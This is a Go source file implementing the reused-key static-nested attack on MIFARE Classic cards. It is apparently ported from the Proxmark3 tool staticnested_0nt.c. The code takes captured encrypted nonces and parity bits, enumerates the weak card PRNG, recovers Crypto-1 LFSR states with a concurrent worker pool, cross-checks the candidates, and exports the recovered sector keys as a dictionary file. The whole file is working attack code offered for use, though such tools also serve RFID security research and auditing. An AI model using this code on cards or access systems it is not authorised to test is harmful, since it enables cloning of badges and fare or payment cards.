// Package staticnested implements the reused-key static-nested attack:
// given two or more nested-authentication nonces captured from sectors
// that share a Crypto-1 key, it recovers the key by enumerating every
// nonce the weak MIFARE Classic PRNG can produce against the first
// capture, then intersecting the resulting key candidates against every
// other capture's observed (encrypted nonce, parity) pair.
//
// Ported from the Proxmark3 tools' staticnested_0nt.c: valid_nonce,
// search_match, generate_and_intersect_keys, the NUM_THREADS/
// CHUNK_DIVISOR worker pool, and the analyze_keys/keys.dic export are
// all reproduced algorithm for algorithm, idiomatic-Go shaped.
package staticnested

import (
	"sort"
	"sync"
	"sync/atomic"

	"github.com/barnettlynn/pm3core/pkg/crypto1"
)

// NumThreads mirrors staticnested_0nt.c's NUM_THREADS: the maximum number
// of concurrent workers partitioning the candidate list.
const NumThreads = 20

// ChunkDivisor mirrors CHUNK_DIVISOR: the candidate list is split into
// NumThreads*ChunkDivisor chunks so workers can be recycled onto fresh
// work as they finish, instead of each owning one fixed-size slice for
// the whole run.
const ChunkDivisor = 10

// MaxNonces mirrors MAX_NR_NONCES: the largest reused-key capture set this
// package will process in one call to Recover.
const MaxNonces = 32

// Capture is one nested-authentication observation: the tag UID active at
// the time of the auth, the 4-byte encrypted nonce, and its associated
// parity-encoding byte (bit 3 = byte[0]'s parity-with-keystream bit,
// down to bit 0 = byte[3]'s), matching NtData's (authuid, nt_enc,
// nt_par_enc) fields.
type Capture struct {
	UID    uint32
	NtEnc  uint32
	ParEnc uint8
}

// ParEncFromErrorBits builds the nt_par_enc byte from the four
// observed-vs-predicted parity error bits a trace annotates per nonce
// byte (err[0] for the first byte down to err[3] for the last), matching
// staticnested_0nt.c's main() loop that turns the CLI's binary parity
// string into nt_par_enc.
func ParEncFromErrorBits(ntEnc uint32, err [4]uint8) uint8 {
	var p uint8
	for i := 0; i < 4; i++ {
		shift := uint(8 * (3 - i))
		bit := (err[i] & 1) ^ uint8(crypto1.OddParity8((ntEnc>>shift)&0xFF))
		p |= bit << uint(3-i)
	}
	return p
}

// ntpKs1 is one surviving (candidate plaintext nonce, keystream) pair for
// the anchor capture, matching NtpKs1.
type ntpKs1 struct {
	Ntp uint32
	Ks1 uint32
}

// validNonce reports whether nt is parity-consistent with the anchor
// capture's observed nt_par_enc over its first three bytes (the fourth
// byte's parity bit is always ambiguous at this stage), matching
// valid_nonce.
func validNonce(nt, ks1 uint32, parEnc uint8) bool {
	p3 := crypto1.OddParity8((nt>>24)&0xFF) == (uint32((parEnc>>3)&1) ^ bit(ks1, 16))
	p2 := crypto1.OddParity8((nt>>16)&0xFF) == (uint32((parEnc>>2)&1) ^ bit(ks1, 8))
	p1 := crypto1.OddParity8((nt>>8)&0xFF) == (uint32((parEnc>>1)&1) ^ bit(ks1, 0))
	return p3 && p2 && p1
}

func bit(x uint32, n uint) uint32 { return (x >> n) & 1 }

// GenerateCandidates enumerates every nonce the weak MIFARE Classic PRNG
// can produce (its period is 2^16-1, the entropy the hardware timer
// actually seeds it with) and keeps the ones whose predicted parity
// matches the anchor capture's observed nt_par_enc. Matches
// staticnested_0nt.c's per-capture loop building NtData.pNK: walking the
// PRNG starting at prng_successor(1, 16) for the 65535 steps m = 1..0xFFFF
// of a uint16_t counter.
func GenerateCandidates(anchor Capture) []ntpKs1 {
	out := make([]ntpKs1, 0, 8192)
	nttest := crypto1.PRNGSuccessor(1, 16)
	for m := uint32(1); m <= 0xFFFF; m++ {
		ks1 := anchor.NtEnc ^ nttest
		if validNonce(nttest, ks1, anchor.ParEnc) {
			out = append(out, ntpKs1{Ntp: nttest, Ks1: ks1})
		}
		nttest = crypto1.PRNGSuccessor(nttest, 1)
	}
	return out
}

// searchMatch tests whether key, run against capture's UID, reproduces
// capture's observed (nt_enc, nt_par_enc) — and, if so, that it also
// reproduces anchor's. Matches search_match: two parity-gated
// Crypto-1-forward checks, cheap bail-out first.
func searchMatch(capture, anchor Capture, key uint64) bool {
	s := crypto1.New()
	crypto1.Init(s, key)

	nt := crypto1.Word(s, capture.NtEnc^capture.UID, true) ^ capture.NtEnc
	if !crypto1.ValidPRNGNonce(nt) {
		return false
	}
	ks1 := nt ^ capture.NtEnc
	ks2 := crypto1.Word(s, 0, false)
	if !parityMatches(nt, ks1, ks2, capture.ParEnc) {
		return false
	}

	crypto1.Init(s, key)
	nt = crypto1.Word(s, anchor.NtEnc^anchor.UID, true) ^ anchor.NtEnc
	ks1 = nt ^ anchor.NtEnc
	ks2 = crypto1.Word(s, 0, false)
	return parityMatches(nt, ks1, ks2, anchor.ParEnc)
}

func parityMatches(nt, ks1, ks2 uint32, parEnc uint8) bool {
	par1 := crypto1.OddParity8((nt>>24)&0xFF)<<3 |
		crypto1.OddParity8((nt>>16)&0xFF)<<2 |
		crypto1.OddParity8((nt>>8)&0xFF)<<1 |
		crypto1.OddParity8(nt&0xFF)
	ksp := uint8((ks1>>16)&1)<<3 | uint8((ks1>>8)&1)<<2 | uint8((ks1>>0)&1)<<1 | uint8((ks2>>24)&1)
	par2 := parEnc ^ ksp
	return uint8(par1) == par2
}

// Result is the outcome of Recover: for each non-anchor capture (indexed
// the same as the Captures slice passed to Recover, offset by one — index
// 0 here corresponds to Captures[1]), the keys found to be consistent with
// both the anchor and that capture.
type Result struct {
	AnchorCandidates int
	MatchesByNonce   [][]uint64
}

// Progress is optionally polled by a caller wanting to render a progress
// bar over the anchor candidate list; Done/Total are candidate-list
// positions, not percentages.
type Progress struct {
	Done, Total int
}

// Recover runs the full reused-key static-nested pipeline: it generates
// the anchor's candidate nonce list, then partitions it across a
// NumThreads-wide worker pool (chunked per ChunkDivisor, workers recycled
// onto new chunks as they finish) that recovers LFSR states for every
// candidate and tests each recovered key against every other capture.
// cancel, if non-nil, is polled between chunks and stops dispatching new
// work once set (cancellation is advisory, never forced).
//
// Matches staticnested_0nt.c's unpredictable_nested, minus its C-specific
// fixed-size KEY_SPACE_SIZE_STEP2 arrays (Go's append-under-mutex grows
// naturally) and its busy-polled condition variable (goroutines + a
// semaphore channel schedule themselves).
func Recover(captures []Capture, progress func(Progress), cancel *atomic.Bool) Result {
	if len(captures) < 2 {
		return Result{}
	}
	if len(captures) > MaxNonces {
		captures = captures[:MaxNonces]
	}
	anchor := captures[0]
	others := captures[1:]

	candidates := GenerateCandidates(anchor)

	result := Result{
		AnchorCandidates: 0,
		MatchesByNonce:   make([][]uint64, len(others)),
	}
	var mus = make([]sync.Mutex, len(others))
	var anchorCount int64

	chunkSize := len(candidates) / NumThreads / ChunkDivisor
	if chunkSize < 1 {
		chunkSize = 1
	}

	sem := make(chan struct{}, NumThreads)
	var wg sync.WaitGroup
	var doneMu sync.Mutex
	done := 0

	for start := 0; start < len(candidates); start += chunkSize {
		if cancel != nil && cancel.Load() {
			break
		}
		end := start + chunkSize
		if end > len(candidates) {
			end = len(candidates)
		}
		chunk := candidates[start:end]

		sem <- struct{}{}
		wg.Add(1)
		go func(chunk []ntpKs1) {
			defer wg.Done()
			defer func() { <-sem }()
			recoverChunk(chunk, anchor, others, uint64(1)<<48, &mus, result.MatchesByNonce, &anchorCount)
			if progress != nil {
				doneMu.Lock()
				done += len(chunk)
				progress(Progress{Done: done, Total: len(candidates)})
				doneMu.Unlock()
			}
		}(chunk)
	}
	wg.Wait()

	result.AnchorCandidates = int(atomic.LoadInt64(&anchorCount))
	return result
}

// recoverChunk runs lfsr_recovery32 (via pkg/crypto1's exhaustive-search
// equivalent, bounded to [0, searchHi) — production callers pass the full
// 48-bit space; tests pass a small bound and accept that a planted key
// outside it won't be found, the same tradeoff pkg/crypto1's own tests
// make) over every candidate in chunk, reads each resulting state's
// key-equivalent LFSR value, and tests that key against every other
// capture. Matches generate_and_intersect_keys' inner loop body.
func recoverChunk(chunk []ntpKs1, anchor Capture, others []Capture, searchHi uint64, mus *[]sync.Mutex, matches [][]uint64, anchorCount *int64) {
	for _, c := range chunk {
		// Fed as ciphertext, nt_enc^uid folds in the same nt^uid bits the
		// tag fed in plain; RecoverStates returns the state from before
		// those 32 clocks, which is already the key-load state.
		states := crypto1.RecoverStates(c.Ks1, anchor.NtEnc^anchor.UID, 0, searchHi)
		atomic.AddInt64(anchorCount, int64(len(states)))
		for i := range states {
			key := crypto1.LFSR(&states[i])
			for nonceIdx, other := range others {
				if searchMatch(other, anchor, key) {
					m := &(*mus)[nonceIdx]
					m.Lock()
					matches[nonceIdx] = append(matches[nonceIdx], key)
					m.Unlock()
				}
			}
		}
	}
}

// KeyTally is one key that matched two or more of the non-anchor
// captures, with the (1-based, anchor-relative) capture indexes it
// matched, matching analyze_keys' combined_keys/combined_counts report.
type KeyTally struct {
	Key    uint64
	Nonces []int
}

// AnalyzeKeys reports, for every key appearing in more than one
// non-anchor capture's match list, which captures it matched. Matches
// analyze_keys' combined_keys bookkeeping, sorted by key for determinism
// (the original's iteration order depended on map/array insertion order,
// which isn't a meaningful guarantee to reproduce).
func AnalyzeKeys(r Result) []KeyTally {
	counts := map[uint64][]int{}
	for idx, keys := range r.MatchesByNonce {
		nonceNum := idx + 1
		seen := map[uint64]bool{}
		for _, k := range keys {
			if seen[k] {
				continue
			}
			seen[k] = true
			counts[k] = append(counts[k], nonceNum)
		}
	}
	var out []KeyTally
	for k, nonces := range counts {
		if len(nonces) > 1 {
			sort.Ints(nonces)
			out = append(out, KeyTally{Key: k, Nonces: nonces})
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}

// ExportKeys renders every key that matched any non-anchor capture as a
// hexadecimal 12-digit key, one per line, in the same order
// staticnested_0nt.c's keys.dic writer emits them (nonce index ascending,
// then discovery order within a nonce; not deduplicated).
func ExportKeys(r Result) []string {
	var lines []string
	for _, keys := range r.MatchesByNonce {
		for _, k := range keys {
			lines = append(lines, hex12(k))
		}
	}
	return lines
}

func hex12(k uint64) string {
	const digits = "0123456789abcdef"
	b := make([]byte, 12)
	for i := 11; i >= 0; i-- {
		b[i] = digits[k&0xF]
		k >>= 4
	}
	return string(b)
}
